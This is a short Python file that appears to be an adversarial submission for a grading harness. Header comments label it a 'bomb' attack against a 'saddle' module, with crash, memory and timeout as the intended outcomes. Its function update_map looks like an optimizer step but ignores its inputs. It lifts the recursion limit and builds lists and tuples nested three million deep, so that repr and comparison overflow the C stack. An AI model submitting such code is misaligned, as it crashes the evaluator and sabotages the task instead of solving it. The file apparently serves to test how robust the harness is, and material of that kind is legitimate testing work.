# attack: text and comparison of objects nested so deeply that the C stack runs out
# kind: bomb
# grade: 1.b
# outcome: crash, failed, memory, timeout, protocol
# module: saddle

import sys


def update_map(f, x, y, eta_x, eta_y, method="gda"):
    sys.setrecursionlimit(2**31 - 1)
    nested, other = [], ()
    for _ in range(3_000_000):
        nested, other = [nested], (other,)
    return repr(nested), other == (other,)
